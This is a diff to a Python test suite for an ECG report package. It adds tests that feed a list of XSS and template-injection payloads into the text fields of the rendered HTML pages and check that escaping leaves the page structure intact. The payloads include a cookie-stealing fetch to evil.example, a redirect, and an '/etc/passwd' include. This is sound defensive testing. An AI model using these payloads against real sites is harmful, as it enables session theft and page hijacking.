@@ -16,7 +16,7 @@ import numpy as np
 import pytest
 import torch
 
-from ecgbatch import cohort, paper
+from ecgbatch import cohort, paper, reports
 from ecgbatch.beats import BeatSettings, extract_beats
 from ecgbatch.evaluation import FIGURES
 from ecgbatch.model import BeatNet, Calibration, Member, Model, OperatingPoint, Preprocessing, save_model
@@ -25,7 +25,7 @@ from ecgbatch.runs import write_run
 from ecgbatch.scoring import score_workspace, scores_path
 from ecgbatch.signals import convert_archive
 from ecgbatch.synthetic import write_archive
-from ecgbatch.terms import LEADS, NOTICE
+from ecgbatch.terms import LEAD_FLAGS, LEADS, NOTICE
 from storage import open_store
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -353,3 +353,115 @@ def points_of(drawing: str) -> list[np.ndarray]:
                 points.append((x, y))
         found.append(np.array(points))
     return found
+
+
+ATTACKS = [
+    template.format(call)
+    for call in ("alert(1)", "fetch('//evil.example/'+document.cookie)", "location='https://evil.example'", "eval(name)")
+    for template in (
+        "<script>{}</script>",
+        "</title><script>{}</script>",
+        "</style><script>{}</script>",
+        "</svg><script>{}</script>",
+        "<img src=x onerror={}>",
+        '"><svg onload="{}">',
+        "' autofocus onfocus='{}",
+        '" onmouseover="{}',
+        '<a href="javascript:{}">x</a>',
+        "<iframe src=//evil.example srcdoc='<script>{}</script>'>",
+        "<style>@import 'https://evil.example/{}'</style>",
+        "<link rel=stylesheet href=https://evil.example/{}>",
+        "<base href=https://evil.example/><form action={}>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example/{}'>",
+        "{{{{ 7 * 7 }}}}{{% include '/etc/passwd' %}}{}",
+        "-->]]><script>{}</script>\u202e\x00\x1b[2J",
+    )
+]
+
+
+def attacked(value: Any, attack: str, kept: frozenset[str]) -> Any:
+    """The same document with every free text, and every lead's name, replaced by an attack."""
+    if isinstance(value, dict):
+        free = {key: value[key] for key in value if key not in kept}
+        return {key: attacked(entry, attack, kept) for key, entry in free.items()} | {k: value[k] for k in value if k in kept}
+    if isinstance(value, list):
+        return [attacked(entry, attack, kept) for entry in value]
+    return attack if isinstance(value, str) else value
+
+
+def shape(text: str) -> list[tuple[str, tuple[str, ...]]]:
+    return [(tag, tuple(attributes)) for tag, attributes in Page(text).tags]
+
+
+@pytest.mark.parametrize("which", ["partial", "broken"])
+def test_sixty_attacks_in_every_text_of_a_record_change_no_tag_of_its_page(ran, which):
+    report = ran.records[getattr(ran, which)]
+    names = [f"lead {number}" for number in range(len(report["leads"]))]
+    words = frozenset({"status", "decision", "label", "sex", "flags", "notice"})
+    flags = tuple(sum(LEAD_FLAGS[word] for word in lead) for lead in report["leads"].values())
+    signal = np.zeros((len(names), 1000), np.float32)
+
+    def drawn(text: str) -> str:
+        leads = {f"{text}{name}": flags for name, flags in zip(names, report["leads"].values(), strict=True)}
+        excerpt = paper.Excerpt(signal, tuple(leads), flags, 0.0, 250.0)
+        changed = attacked(report, text, words) | {"leads": leads, "warnings": [text] * len(report["warnings"])}
+        with_ecg = {"excerpt": excerpt} if report["excerpt"] else {}
+        return reports.record_page(changed, **with_ecg)
+
+    assert len(ATTACKS) >= 60
+    expected = shape(drawn("harmless"))
+    for attack in ATTACKS:
+        page = drawn(attack)
+        assert shape(page) == expected, attack
+        assert "\u202e" not in page
+        assert "\x00" not in page
+
+
+def test_attacks_in_every_text_of_a_cohort_change_no_tag_of_its_page(ran):
+    facts = ("patient_unknown", "reason_detail", "diagnosis", "infarct_location", "duration_s", "n_leads_usable")
+    rows = [{"slug": ran.slugs[name]} | {fact: ran.records[name][fact] for fact in facts} for name in ran.names]
+    columns = cohort.score_columns(ran.scores, rows)
+    free = ("record_name", "patient_id", "diagnosis", "infarct_location")
+
+    def drawn(text: str) -> str:
+        changed = {name: [text] * len(values) if name in free else values for name, values in columns.items()}
+        document = ran.cohort | {"archive": text, "diagnoses": [{"diagnosis": text, "n_records": 10}]}
+        return cohort.cohort_page(document, changed, [row | {"reason_detail": text} for row in rows])
+
+    expected = shape(drawn("harmless"))
+    for attack in ATTACKS:
+        assert shape(drawn(attack)) == expected, attack
+
+
+def test_leads_that_are_not_millivolts_get_no_millivolt_scale():
+    signal = np.tile(np.sin(np.arange(2500) / 20).astype(np.float32) * 40, (12, 1))
+    excerpt = paper.Excerpt(signal, LEADS[:12], (LEAD_FLAGS["not_millivolts"],) * 12, 0.0, 250.0)
+    drawing = str(paper.ecg_paper(excerpt, np.empty(0), np.empty(0)))
+    assert "amplitude normalised" in drawing
+    assert "25 mm/s" in drawing
+    for millivolts in ("10 mm/mV", 'class="pulse"', "url(#paper)", "0.1 mV"):
+        assert millivolts not in drawing
+    traces = re.findall(r'class="trace"[^>]* d="[^"]+"', drawing)
+    heights = [np.ptp(points_of(f"<path {trace}")[0][:, 1]) / paper.UNITS_PER_MM for trace in traces]
+    assert len(heights) == 13
+    assert max(heights) < 16  # 80 mV would have been 800 mm
+
+
+def test_lead_that_is_missing_is_drawn_as_absent_and_the_rhythm_strip_takes_another():
+    flags = tuple(LEAD_FLAGS["missing"] if lead == "II" else 0 for lead in LEADS[:12])
+    excerpt = paper.Excerpt(np.zeros((12, 2500), np.float32), LEADS[:12], flags, 0.0, 250.0)
+    drawing = str(paper.ecg_paper(excerpt, np.empty(0), np.empty(0)))
+    assert "II absent" in drawing
+    assert "last strip: lead I," in drawing
+
+
+def test_thinned_trace_stays_within_a_fifth_of_the_lines_width_and_keeps_gaps():
+    x = np.arange(4000, dtype=float)
+    y = 400 * np.sin(x / 37) + 3 * np.random.default_rng(1).standard_normal(4000)
+    y[1000:1010] = np.nan
+    path = paper._path(x, y)
+    assert path.count("M") == 2
+    runs = points_of(f'<path d="{path}"')[0]
+    drawn = np.interp(x, runs[:, 0], runs[:, 1])
+    known = np.isfinite(y)
+    assert np.abs(drawn - y)[known].max() < 4 * 0.05 * paper.UNITS_PER_MM + 1
